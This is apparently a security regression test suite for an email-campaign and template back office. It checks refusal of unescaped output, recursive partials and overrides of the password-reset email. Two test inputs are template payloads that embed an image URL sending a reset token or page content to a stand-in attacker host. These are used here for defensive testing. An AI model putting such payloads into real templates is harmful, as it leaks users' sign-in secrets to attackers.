import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { User } from '../../src/identity/models.js';
import { createBroadcast, createCampaign, EmailCampaign } from '../../src/notifications/campaigns/index.js';
import { Broadcast } from '../../src/notifications/campaigns/models.js';
import {
  createEmailTemplate,
  EmailTemplate,
  rollbackEmailTemplate,
  updateEmailTemplate,
} from '../../src/notifications/email-templates/index.js';
import type { Actor } from '../../src/platform/actor.js';
import { ctx } from '../../src/platform/context.js';
import { AppError } from '../../src/platform/errors.js';
import { actorFor } from '../orders/fixtures.js';
import { startTestApp, type TestApp } from '../support/harness.js';

/**
 * Defects found by probing issue 13's back-office features as an attacker or a new admin would:
 * each case failed before its fix.
 */
let t: TestApp;
let admin: Actor;
let superadmin: Actor;
beforeAll(async () => {
  t = await startTestApp();
  admin = await actorFor('admin@scriptorium.test');
  const su = (await User.findOne({ where: { email: 'superadmin@scriptorium.test' } }))!;
  superadmin = { userId: su.id, role: 'superadmin', websiteId: null };
});
afterAll(() => t?.close());

async function refused(promise: Promise<unknown>): Promise<AppError> {
  const err = await promise.then(
    () => null,
    (e: unknown) => e,
  );
  expect(err).toBeInstanceOf(AppError);
  return err as AppError;
}
const fieldsOf = (err: AppError): Record<string, string> => err.fields ?? {};

const campaign = { name: 'Probe', subject: 'News', html: '<p>Hi {{name}}</p>', throttlePerMinute: 10 };

describe('a superadmin naming a website that does not exist', () => {
  it('gets a 400 naming the field for a campaign, a broadcast and a template override (was a 500: foreign key)', async () => {
    const c = await refused(createCampaign(superadmin, { ...campaign, audience: '{"websiteId": 999999}' }));
    expect(c.status).toBe(400);
    expect(fieldsOf(c).audience).toMatch(/no website 999999/);
    const b = await refused(createBroadcast(superadmin, { title: 'T', body: 'B', audience: '{"websiteId": 999999}' }));
    expect(b.status).toBe(400);
    expect(fieldsOf(b).audience).toMatch(/no website 999999/);
    const e = await refused(createEmailTemplate(superadmin, { websiteId: '999999', key: 'welcome', subject: 'Hi' }));
    expect(e.status).toBe(400);
    expect(fieldsOf(e).websiteId).toMatch(/no website 999999/);
    expect(await EmailCampaign.count({ where: { name: 'Probe' } })).toBe(0);
    expect(await Broadcast.count({ where: { title: 'T' } })).toBe(0);
  });
});

describe('a campaign’s HTML', () => {
  it('may not print unescaped output: a recipient’s display name must not become markup', async () => {
    for (const html of ['<p>{{{name}}}</p>', '<p>{{& firstName}}</p>', '{{#if name}}{{{name}}}{{/if}}']) {
      const err = await refused(createCampaign(admin, { ...campaign, html, audience: '{}' }));
      expect(err.status).toBe(400);
      expect(fieldsOf(err).html).toMatch(/unescaped output/);
    }
    // The subject is not HTML: it stays allowed there.
    const ok = await createCampaign(admin, { ...campaign, subject: '{{{brand.name}}} news', audience: '{}' });
    expect(ok.subject).toBe('{{{brand.name}}} news');
  });
});

describe('partial overrides that include each other', () => {
  it('are refused at save (they would recurse at send time), on create, edit and rollback', async () => {
    const button = await createEmailTemplate(admin, { key: 'partial:button', html: '<p>{{label}} {{> footer}}</p>' });
    const err = await refused(
      createEmailTemplate(admin, { key: 'partial:footer', html: '<p>{{> button url="x" label="y" brand=brand}}</p>' }),
    );
    expect(err.status).toBe(400);
    expect(fieldsOf(err).html).toMatch(/includes itself through partials: (footer -> button -> footer|button -> footer -> button)/);
    expect(await EmailTemplate.count({ where: { key: 'partial:footer', websiteId: admin.websiteId! } })).toBe(0);

    // Inactive, the footer may include the button; activating it is refused.
    const footer = await createEmailTemplate(admin, {
      key: 'partial:footer',
      html: '<p>{{> button url="x" label="y" brand=brand}}</p>',
      active: 'false',
    });
    expect(fieldsOf(await refused(updateEmailTemplate(admin, footer.id, { active: 'true' }))).html).toMatch(/includes itself/);

    // The button stops including the footer: the footer may be active; rolling the button back is refused.
    await updateEmailTemplate(admin, button.id, { html: '<p>{{label}}</p>' });
    await updateEmailTemplate(admin, footer.id, { active: 'true' });
    expect(fieldsOf(await refused(rollbackEmailTemplate(admin, button.id, 1))).html).toMatch(/includes itself/);
    // A partial including itself directly is refused by the single-source check already.
    expect((await refused(updateEmailTemplate(admin, button.id, { html: '{{> button}}' }))).status).toBe(400);
  });
});

describe('an email that carries a sign-in secret (the password reset)', () => {
  it('cannot be overridden, and is sent without the website’s layout and partials (they could send the link elsewhere)', async () => {
    const err = await refused(
      createEmailTemplate(admin, { key: 'password-reset', html: '<img src="https://attacker.example/x?t={{token}}">' }),
    );
    expect(err.status).toBe(400);
    expect(fieldsOf(err).key).toMatch(/sign-in secret \(token, resetUrl\)/);
    expect(await EmailTemplate.count({ where: { key: 'password-reset' } })).toBe(0);

    // A layout that would carry the body off in an image URL: other emails use it, the reset does not.
    await createEmailTemplate(admin, {
      key: 'layout',
      html: '<html><body><img src="https://attacker.example/l?b={{brand.name}}">LAYOUT-OVERRIDE {{> @partial-block}}</body></html>',
    });
    const brand = { name: 'Scriptorium Essays', color: '#4f46e5' };
    const read = async (sent: { file?: string }) => readFileSync(sent.file!, 'utf8');
    const reset = await ctx().mailer.send({
      to: 'someone@scriptorium.test',
      websiteId: admin.websiteId!,
      template: 'password-reset',
      brand,
      data: { displayName: 'Someone', resetUrl: 'https://essays.example/reset?token=secret123', token: 'secret123', expiresInMinutes: 60 },
    });
    expect(await read(reset)).not.toContain('LAYOUT-OVERRIDE');
    const welcome = await ctx().mailer.send({
      to: 'someone@scriptorium.test',
      websiteId: admin.websiteId!,
      template: 'welcome',
      brand,
      data: JSON.parse(readFileSync('templates/welcome.meta.json', 'utf8')).variables,
    });
    expect(await read(welcome)).toContain('LAYOUT-OVERRIDE');
  });
});
